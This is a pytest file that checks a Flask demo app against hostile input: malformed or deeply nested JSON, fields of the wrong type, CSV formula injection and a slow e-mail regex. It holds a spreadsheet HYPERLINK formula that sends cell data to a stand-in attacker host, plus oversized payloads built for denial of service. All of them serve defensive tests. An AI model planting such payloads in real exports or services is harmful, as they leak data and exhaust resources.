"""The demo app against hostile input, second round (issue 25, item 6): every bad body is
a 400 with a sentence, never a 500 or a value stored as ``str()`` of something else; a
CSV export is safe to open in a spreadsheet; the e-mail check is linear."""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient

from demo_app import create_app
from demo_app.inputs import valid_email
from demo_app.settings import Settings

ADMIN = {"username": "admin", "password": "admin-pass-1"}
#: Every endpoint that takes a JSON body, with a body it accepts.
JSON_ENDPOINTS = [
    ("/api/projects", {"name": "P"}),
    ("/api/projects/1", {"name": "P2"}),
    ("/api/projects/1/cases", {"title": "T"}),
    ("/api/cases/1", {"title": "T2"}),
    ("/api/cases/1/runs", {"result": "passed"}),
    ("/api/users", {"username": "u1", "email": "a@b.cd", "password": "abcdefghi"}),
    ("/api/fields", {"name": "F"}),
    ("/api/fields/1", {"name": "F2"}),
    ("/api/account/password", {"current": "admin-pass-1", "new": "admin-pass-1"}),
    ("/api/test/throttle", {"per_account": 3}),
    ("/api/test/latency", {"latency_ms": 0, "jitter_ms": 0}),
]


@pytest.fixture
def app(tmp_path: Path) -> Flask:
    app = create_app(Settings(data_dir=tmp_path, latency_ms=0, jitter_ms=0, test_mode=True))
    app.config["WTF_CSRF_ENABLED"] = False
    return app


@pytest.fixture
def admin(app: Flask) -> FlaskClient:
    client = app.test_client()
    assert client.post("/login", data=ADMIN).status_code == 302
    assert client.post("/api/projects", json={"name": "Shop"}).status_code == 201
    assert client.post("/api/projects/1/cases", json={"title": "Pay"}).status_code == 201
    assert client.post("/api/fields", json={"name": "Env"}).status_code == 201
    return client


def _post_raw(client: FlaskClient, url: str, body: str) -> tuple[int, str]:
    answer = client.post(url, data=body.encode("utf-8"), content_type="application/json")
    return answer.status_code, answer.get_json(silent=True).get("error", "")


@pytest.mark.parametrize("url", [u for u, _ in JSON_ENDPOINTS])
@pytest.mark.parametrize(
    ("body", "said"),
    [
        ('{"name": "\\ud800", "title": "\\ud800", "result": "\\udfff"}', "lone surrogate"),
        ("[" * 100_000 + "]" * 100_000, "nests deeper"),
        ('{"a":' * 50 + "1" + "}" * 50, "nests deeper"),
        ('{"per_account": NaN, "latency_ms": Infinity, "name": -Infinity}', "is not a JSON"),
    ],
    ids=["lone-surrogate", "nested-100000", "nested-50", "nan-infinity"],
)
def test_a_hostile_json_body_is_a_400(admin: FlaskClient, url: str, body: str, said: str) -> None:
    status, error = _post_raw(admin, url, body)
    assert status == 400, (status, error)
    assert said in error


@pytest.mark.parametrize(
    ("url", "body", "field"),
    [
        ("/api/projects", {"name": None}, "name"),
        ("/api/projects/1/cases", {"title": ["a"]}, "title"),
        ("/api/projects/1/cases", {"title": "t", "priority": 3}, "priority"),
        (
            "/api/users",
            {"username": "u2", "email": "a@b.cd", "password": ["abcdefghi"]},
            "password",
        ),
        ("/api/users", {"username": "u3", "email": {"x": 1}, "password": "abcdefghi"}, "email"),
        ("/api/fields", {"name": "F9", "description": 7}, "description"),
        ("/api/cases/1/runs", {"result": True}, "result"),
        ("/api/account/password", {"current": None, "new": "abcdefghi"}, "current"),
    ],
)
def test_a_wrong_json_type_is_refused_not_stored_as_text(
    admin: FlaskClient, url: str, body: dict[str, object], field: str
) -> None:
    answer = admin.post(url, json=body)
    assert answer.status_code == 400, answer.text
    assert f"The field {field!r} must be text" in answer.get_json()["error"]
    projects = admin.get("/api/projects").get_json()["projects"]
    assert [p["name"] for p in projects] == ["Shop"]
    users = admin.get("/api/users").get_json()["users"]
    assert [u["username"] for u in users] == ["admin"]


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_export_does_not_run_formulas(admin: FlaskClient, lead: str) -> None:
    formula = f'{lead}HYPERLINK("http://evil.example/?"&A1,"click")'
    case = {"title": "Formula", "description": formula}  # titles are stripped, not these
    assert admin.post("/api/projects/1/cases", json=case).status_code == 201
    exported = admin.get("/projects/1/export.csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "Pay" in cells  # ordinary cells are left alone


@pytest.mark.parametrize("where", ["api", "popup"])
def test_a_huge_e_mail_address_is_refused_quickly(admin: FlaskClient, where: str) -> None:
    address = "a@" + "a" * 65_536 + "!"  # quadratic for the old regex: about 16 s of CPU
    started = time.process_time()
    if where == "api":
        user = {"username": "big", "email": address, "password": "abcdefghi"}
        answer = admin.post("/api/users", json=user)
        assert answer.status_code == 422
        assert "e-mail" in answer.get_json()["fields"]["email"]
    else:
        form = {"username": "big", "email": address, "password": "abcdefghi", "role": "tester"}
        answer = admin.post("/admin/users/new", data=form)
        assert "Enter an e-mail address" in answer.get_data(as_text=True)
    # CPU time of this process, generous: the old check took over 10 s here.
    assert time.process_time() - started < 2.0


@pytest.mark.parametrize(
    ("address", "ok"),
    [
        ("name@example.com", True),
        ("a.b+c@sub.example.org", True),
        ("no-at.example.com", False),
        ("two@@example.com", False),
        ("a@b@c.de", False),
        ("space @example.com", False),
        ("name@nodot", False),
        ("name@.com", False),
        ("name@example.", False),
        ("@example.com", False),
        ("x@" + "a" * 300 + ".com", False),
    ],
)
def test_the_e_mail_check_keeps_its_meaning(address: str, ok: bool) -> None:
    assert valid_email(address) is ok
